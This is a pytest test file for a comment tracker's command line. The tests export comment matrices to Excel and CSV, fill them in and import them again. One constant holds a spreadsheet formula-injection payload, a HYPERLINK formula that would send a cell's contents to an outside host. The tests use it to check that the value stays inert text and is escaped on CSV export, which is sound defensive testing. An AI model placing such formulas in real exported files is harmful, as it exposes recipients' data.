"""The comment matrix on the command line: out, filled in, and home again."""

from __future__ import annotations

import csv
import io
import subprocess
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from tests.functional.command import Desk, check_snapshot, transcript
from tests.functional.test_cli_refusals import check_refused
from tests.tools import program

HOSTILE = '=HYPERLINK("http://example.org/?"&A1,"click")'


class Filled:
    """A workbook in the hands of somebody who fills it in."""

    def __init__(self, path: Path) -> None:
        self._book = openpyxl.load_workbook(path)
        self.sheet: Any = self._book["Comments"]
        self._columns = {cell.value: cell.column for cell in self.sheet[1]}
        self._rows = {row[0].value: row[0].row for row in self.sheet.iter_rows(min_row=2)}

    def cell(self, comment: str, heading: str) -> Any:
        return self.sheet.cell(self._rows[comment], self._columns[heading])

    def write(self, comment: str, heading: str, value: Any) -> None:
        self.cell(comment, heading).value = value

    def add(self, **cells: Any) -> None:
        row = self.sheet.max_row + 1
        for heading, value in cells.items():
            self.sheet.cell(row, self._columns[heading.replace("_", " ")], value)

    def save(self, path: Path) -> None:
        self._book.save(path)


def out(desk: Desk, name: str = "matrix.xlsx", more: str = "") -> Path:
    written = desk.tracker(f"export -o {name} {more}")
    assert written.status == 0, written
    return desk.folder / name


def test_one_disposition_filled_in_comes_home_once(desk: Desk) -> None:
    filled = Filled(out(desk, more="--profile ieee"))
    filled.write("C42", "Disposition", "Revised")
    filled.write("C42", "Observations of the secretariat", "It goes into the preamble.")
    filled.save(desk.folder / "home.xlsx")
    shown = [desk.tracker(f"import home.xlsx{more}") for more in ("", " --yes", " --yes")]
    shown.append(desk.tracker("comment show C42"))
    shown.append(desk.tracker("log --limit 1"))
    assert [each.status for each in shown] == [2, 0, 0, 0, 0]
    check_snapshot("matrix", "\n".join(transcript(each, desk) for each in shown))


def test_the_matrix_that_was_not_touched_brings_nothing(desk: Desk) -> None:
    for name in ("matrix.xlsx", "matrix.csv"):
        out(desk, name)
        before = desk.store()
        done = desk.tracker(f"import {name}")
        assert (done.status, done.stdout) == (0, "")
        assert done.stderr.endswith("nothing to store\n")
        assert desk.store() == before


def test_a_line_that_is_not_there_is_told_and_the_rest_is_stored(desk: Desk) -> None:
    filled = Filled(out(desk))
    filled.add(Speaker="A guest", Line_number=99, Comment="On nothing.")
    filled.add(Member_body="JP 003", Line_number=2, Comment="On two.", Type_of_comment="ed")
    filled.save(desk.folder / "home.xlsx")
    done = desk.tracker("import home.xlsx --yes")
    assert done.status == 3
    assert "stored as @3: 1 comment\nnot taken, or not wholly: 1 row; mend" in done.stderr
    assert desk.tracker("import home.xlsx --yes").status == 3
    assert "row 49: there is no line '99'; the row is left out" in done.stderr
    assert "JP (JP)" in desk.tracker("comment show C48").stdout
    assert '"type": "editorial"' in desk.tracker("comment show C48 --json").stdout
    assert desk.tracker("verify").status == 0


def test_a_form_of_somebody_else_comes_in_with_its_own_columns(desk: Desk) -> None:
    (desk.folder / "form.csv").write_text(
        "MB/NC;Line number;Type of comment;Comments;Proposed change;"
        "Observations of the secretariat\n"
        "JP 001;2;te;これは強すぎる。;弱める。;Not accepted: it is agreed.\n",
        encoding="cp932",
    )
    words = "import form.csv --document urgent-recommendations --yes"
    assert desk.tracker(words).status == 0
    shown = desk.tracker("comment show C48").stdout
    assert "これは強すぎる。" in shown
    assert "rejected (@3): it is agreed." in shown
    assert "nothing to store" in desk.tracker(words).stderr


def test_hostile_text_leaves_as_text_and_comes_home_as_it_was(desk: Desk) -> None:
    assert desk.tracker("comment", "add", "2", "--from", HOSTILE, "--text", HOSTILE).status == 0
    filled = Filled(out(desk))
    cell = filled.cell("C48", "Comment")
    assert (cell.value, cell.data_type, cell.hyperlink) == (HOSTILE, "s", None)
    filled.write("C48", "Disposition", "noted")
    filled.save(desk.folder / "home.xlsx")
    done = desk.tracker("import home.xlsx --yes")
    assert "stored as @4: 1 disposition" in done.stderr
    assert " stays " not in done.stderr
    text = out(desk, "matrix.csv").read_text("utf-8-sig")
    row = next(row for row in csv.reader(io.StringIO(text, newline="")) if row[0] == "C48")
    assert row[8] == f"'{HOSTILE}"


def test_a_sealed_remark_that_came_with_a_matrix_is_gone_from_what_is_kept(desk: Desk) -> None:
    filled = Filled(out(desk))
    filled.add(Speaker="A guest", Line_number=2, Comment="A remark to be forgotten for ever.")
    filled.save(desk.folder / "home.xlsx")
    assert desk.tracker("import home.xlsx --yes").status == 0
    assert "to be forgotten" in desk.tracker("comment show C48").stdout
    assert desk.tracker("comment seal C48 --reason asked --yes").status == 0
    assert "to be forgotten" not in desk.store()
    assert b"to be forgotten" not in (desk.folder / "tracker.db").read_bytes()
    assert desk.tracker("verify").status == 0
    again = desk.tracker("import home.xlsx --yes")
    assert again.status == 1
    assert "seems to be the file from which a remark was sealed" in again.stderr


def test_internal_comments_leave_only_when_that_is_asked_for(desk: Desk) -> None:
    assert desk.tracker("comment add 2 --from A --text Ours. --internal").status == 0
    left = desk.tracker("export --format csv")
    assert "left out: 1 internal comment" in left.stderr
    assert "Ours." not in left.stdout
    assert "Ours." in desk.tracker("export --format csv --with-internal").stdout


@pytest.mark.parametrize(
    ("command", "status", "told"),
    [
        ("export --format xlsx --profile din -o x.xlsx", 2, "'din' is no profile"),
        ("export --format xlsx --redline @1 -o x.xlsx", 2, "xlsx has no use for --redline"),
        ("export --format markdown --profile iso", 2, "markdown has no use for --profile"),
        ("export --format csv --stale ja --profile iso", 2, "holds no comments"),
        ("import cut.xlsx", 1, "cannot be unpacked"),
        ("import other.csv", 1, "is no table of translations"),
        ("import other.csv --as matrix", 1, "has no comment matrix in it"),
        ("import cut.xlsx --from A", 2, "--from is for a text"),
    ],
)
def test_what_does_not_fit_is_refused_and_stores_nothing(
    desk: Desk, command: str, status: int, told: str
) -> None:
    (desk.folder / "cut.xlsx").write_bytes(b"PK\x03\x04")
    (desk.folder / "other.csv").write_text("a,b\n1,2\n", encoding="utf-8")
    before = desk.store()
    check_refused(desk.tracker(command), status, told)
    assert desk.store() == before


def test_libreoffice_opens_it_and_gives_the_same_comments_back(desk: Desk) -> None:
    office = program("soffice", "libreoffice")
    assert desk.tracker("comment", "add", "2", "--from", "日本側", "--text", HOSTILE).status == 0
    path = out(desk, more="--profile iso")
    profile = (desk.folder / "office").as_uri()
    sheet = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,1"
    done = subprocess.run(
        [
            office,
            f"-env:UserInstallation={profile}",
            "--headless",
            "--convert-to",
            sheet,
            path.name,
        ],
        cwd=desk.folder,
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    # It warns of a Java that it does not need.
    assert [line for line in done.stderr.splitlines() if "javaldx" not in line] == []
    made = next(desk.folder.glob("matrix*.csv"))
    rows = list(csv.DictReader(io.StringIO(made.read_text("utf-8-sig"), newline="")))
    assert [row["ID"] for row in rows][:1] == ["C40"]
    assert next(row for row in rows if row["ID"] == "C48")["Comment"] == HOSTILE
    assert "nothing to store" in desk.tracker(f"import {made.name} --yes").stderr
